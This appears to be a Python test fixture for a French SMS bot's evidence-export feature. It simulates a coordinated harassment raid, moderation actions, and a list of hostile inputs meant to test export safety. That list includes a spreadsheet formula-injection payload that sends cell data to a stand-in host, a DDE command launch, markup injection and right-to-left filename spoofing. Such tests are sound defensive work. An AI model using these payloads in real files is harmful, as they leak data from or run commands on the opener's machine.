"""What the tests of evidence share: a line that had a small raid, and its database."""

from pathlib import Path
from zoneinfo import ZoneInfo

from bot.evidence.bundle import make_bundle
from bot.evidence.jobs import Made
from bot.evidence.selection import Selection
from bot.model import (
    HOUR,
    Channel,
    Inbound,
    InboundKey,
    Instant,
    Money,
    Outcome,
    PersonId,
    ReplyKey,
    SenderId,
)
from bot.policy.facts import (
    AnyFact,
    Blocked,
    Decided,
    ModeSet,
    RaidEntered,
    RaidLeft,
    Received,
    Seeded,
    Settled,
)
from bot.policy.reasons import Reason
from bot.store import NewReply, Store, Turn
from bot.store.archive import Archive

KEY = bytes(range(32))
LINE = "+33937000001"
START = Instant(1_509_120_000_000_000)
NOW = Instant(START + 200 * HOUR)
PARIS = ZoneInfo("Europe/Paris")
FOUNDERS = [PersonId("@fondatrice-a:example.org"), PersonId("@fondateur-b:example.org")]
MODERATOR = PersonId("@moderatrice:example.org")
PASTE = "On va faire couler votre association avec nos messages, chaque réponse coûte seize centimes"

# What texters write who want to get at whoever opens the file.
NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"ici");+cmd|\' /C calc\'!A0',
    '#import "x.typ" #panic() $x^2$ `code` *gras* \\ @label <label> // fin',
    "ligne une\r\n=1+1\nligne deux\u2028;@SUM(A1)\ttab",
    "emoji 🖕🏽 drapeau 🇫🇷 arabe مرحبا chinois 你好 zalgo e\u0301\u0323\u0334 \u202efdp.exe\u202c nul \ufffd",
    'guillemets " et \\ et \u007f et {"seq":1} </script>',
)


def inbound(n: int, number: str, text: str, *, channel: Channel = "sms", at: int | None = None) -> Inbound:
    """The inbound number `n`; a minute after the one before, unless told."""
    prefix = "CA" if channel == "call" else "SM"
    return Inbound(
        key=InboundKey(f"{prefix}{n:032x}"),
        line="twilio",
        channel=channel,
        at=Instant(START + n * 60_000_000 if at is None else at),
        number=number,
        to=LINE,
        text=text,
        raw={"Body": [text], "From": [number]},
    )


def small_raid() -> list[Inbound]:
    """Two people, then one paste from six numbers, disguised twice, then what is nasty, and a call."""
    numbers = [f"+336399801{n:02d}" for n in range(6)]
    texts = [PASTE, PASTE.upper(), PASTE, PASTE.replace("o", "о"), PASTE, PASTE.replace("coûte", "coute !!")]
    return [
        inbound(1, "+33639980001", "Salut c'est Kevin du bar, on se revoit quand ? mon fixe 01 23 45 67 89"),
        inbound(2, "+33639980002", "coucou tu te souviens de moi samedi soir ?"),
        *(inbound(10 + n, number, text) for n, (number, text) in enumerate(zip(numbers, texts, strict=True))),
        *(inbound(20 + n, numbers[0], text) for n, text in enumerate(NASTY)),
        inbound(30, numbers[1], "", channel="call"),
        inbound(31, numbers[1], PASTE),
    ]


class Line:
    """A line with a store of its own, leading; `admit` what comes, as a brain would."""

    def __init__(self, store: Store) -> None:
        self.store = store
        self.senders: dict[str, SenderId] = {}

    @classmethod
    async def open(cls, url: str) -> "Line":
        store = await Store.open(url, pseudonym_key=KEY)
        await store.lead()
        await store.load_state()
        seeded = Seeded(
            at=START,
            pot=Money(500_000_000),
            cap_hour=Money(20_000_000),
            cap_day=Money(100_000_000),
            texts={"fr": "Non, c'est non."},
            founders=FOUNDERS,
            moderators=[MODERATOR],
        )
        await store.commit(Turn(facts=[seeded]))
        return cls(store)

    async def admit(self, came: list[Inbound]) -> None:
        for one in came:
            await self.store.admit(one)
        taken = await self.store.take(len(came), 5)
        facts: list[AnyFact] = []
        for arrival in taken.arrivals:
            self.senders[arrival.number] = arrival.sender
            facts += _facts_on(arrival)
        replies = [
            NewReply(key=fact.reply, inbound=fact.inbound, sender=fact.sender, text="Non.", due=fact.at)
            for fact in facts
            if isinstance(fact, Decided) and fact.reply is not None
        ]
        await self.store.commit(Turn(facts=facts, taken=taken.ids, replies=replies))

    async def say(self, *facts: AnyFact) -> None:
        await self.store.commit(Turn(facts=facts))

    async def raid(self) -> None:
        """The small raid, what the founders did, and one block."""
        came = small_raid()
        await self.admit(came[:2])
        await self.say(
            RaidEntered(at=came[2].at, seen=40, usual=2),
            ModeSet(at=came[3].at, mode="silent", why="pour Camille Martin", by=FOUNDERS[0]),
        )
        await self.admit(came[2:])
        await self.say(
            RaidLeft(at=Instant(came[-1].at + HOUR)),
            Blocked(
                at=Instant(came[-1].at + HOUR),
                senders=[self.senders["+33639980100"]],
                until=Instant(came[-1].at + 1_000 * HOUR),
                by=FOUNDERS[1],
                why="insultes",
            ),
        )

    async def bundle(self, folder: Path, selection: Selection | None = None, language: str = "fr") -> Made:
        """What `evidence export` would make."""
        return await make_bundle(
            Archive.of(self.store),
            folder,
            selection or Selection(),
            line=LINE,
            language=language,
            zone=PARIS,
            now=NOW,
        )


def _facts_on(arrival: object) -> list[AnyFact]:
    from bot.model import Arrival

    assert isinstance(arrival, Arrival)
    pasted = "seize" in arrival.text.lower()
    received = Received(
        at=arrival.at,
        inbound=arrival.key,
        sender=arrival.sender,
        line=arrival.line,
        channel=arrival.channel,
        came=arrival.at,
        content=arrival.commitment,
        form=arrival.form,
        country="FR",
    )
    decided = Decided(
        at=arrival.at,
        inbound=arrival.key,
        sender=arrival.sender,
        verdict="silent" if pasted else "reply",
        reason=Reason.CLUSTER if pasted else Reason.FIRST,
        reply=None if pasted else ReplyKey(arrival.key),
        price=Money(0 if pasted else 76_300),
        detail={"cluster": "C-7", "senders": 6} if pasted else {},
    )
    settled = Settled(
        at=arrival.at,
        reply=ReplyKey(arrival.key),
        sender=arrival.sender,
        outcome=Outcome.DELIVERED,
        carrier_id=f"SMout{arrival.key[2:][-27:]}",
    )
    return [received, decided] if pasted else [received, decided, settled]
